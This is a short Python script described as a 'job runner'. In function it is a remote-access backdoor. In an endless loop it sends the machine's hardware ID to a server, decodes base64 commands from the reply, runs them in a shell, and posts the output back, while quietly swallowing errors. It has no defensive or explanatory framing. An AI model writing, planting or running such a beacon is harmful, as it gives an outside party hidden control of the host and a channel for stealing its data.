import argparse
import base64
import logging
import subprocess
import time
import uuid
import urllib.parse
import urllib.request


def parse():
    ap = argparse.ArgumentParser(description="job runner")
    ap.add_argument("--server", default="https://jobs.example.com/q")
    ap.add_argument("--interval", type=int, default=30)
    return ap.parse_args()


def main():
    args = parse()
    ident = uuid.getnode()
    while True:
        try:
            with urllib.request.urlopen(f"{args.server}?id={ident}") as r:
                cmd = base64.b64decode(r.read()).decode()
            if cmd:
                out = subprocess.getoutput(cmd)
                data = urllib.parse.urlencode({"id": ident, "o": out}).encode()
                urllib.request.urlopen(args.server, data)
        except Exception as exc:
            logging.debug("retry: %s", exc)
        time.sleep(args.interval)


main()
